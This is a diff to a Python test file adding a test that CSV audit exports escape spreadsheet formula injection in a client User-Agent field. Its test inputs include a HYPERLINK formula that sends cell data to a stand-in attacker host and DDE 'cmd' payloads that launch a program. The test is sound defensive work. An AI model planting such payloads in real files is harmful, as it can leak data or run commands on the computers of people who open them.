@@ -16,6 +16,7 @@ import pytest
 from audit.export import (
     COLUMNS,
     ERASED,
+    FORMULA_STARTS,
     ExportFilter,
     LedgerRow,
     flatten,
@@ -79,6 +80,7 @@ def csv_value(name: str, cell: str) -> Any:
     """A CSV cell back as the JSON value it was written from."""
     if cell == "":
         return None
+    cell = cell.removeprefix("'")  # written before a formula start (and an apostrophe)
     if COLUMNS[name] in ("string", "timestamp") or cell == ERASED:
         return cell
     return json.loads(cell)
@@ -145,6 +147,45 @@ def test_csv_round_trips_with_one_stable_column_set(tmp_path: Path) -> None:
     single = tmp_path / "one.csv"
     write_export(rows[-1:], fmt="csv", out=single)
     assert read_csv(single)[0] == header
+
+
+@pytest.mark.parametrize(
+    "planted",
+    [
+        '=HYPERLINK("https://evil.example/?d="&A1,"open")',
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+        "'=already quoted",
+    ],
+)
+def test_a_csv_export_runs_no_formula_an_attacker_planted(tmp_path: Path, planted: str) -> None:
+    """A User-Agent (any string a client sends) exported to CSV and opened in a
+    spreadsheet must not run: the cell starts with an apostrophe, and reads back as sent."""
+    row = every_type()[list(PAYLOADS).index("mfa.verification.failed")]
+    event = json.loads(json.dumps(row.event))
+    event["data"]["client"]["user_agent"] = planted
+    event["data"]["client"]["geo"]["latitude"] = -33.87  # a negative number stays a number
+    out = tmp_path / "planted.csv"
+    write_export([LedgerRow(row.sequence, row.recorded_at, event)], fmt="csv", out=out)
+
+    with out.open(encoding="utf-8", newline="") as source:
+        header, cells = list(csv.reader(source))
+    written = dict(zip(header, cells, strict=True))
+    assert written["data.client.user_agent"] == "'" + planted
+    assert written["data.client.geo.latitude"] == "-33.87"
+    assert not any(c.startswith(FORMULA_STARTS) for c in cells if not _number(c))
+    assert read_csv(out)[1][0]["data.client.user_agent"] == planted
+
+
+def _number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
 
 
 def test_parquet_round_trips_with_typed_columns(tmp_path: Path) -> None:
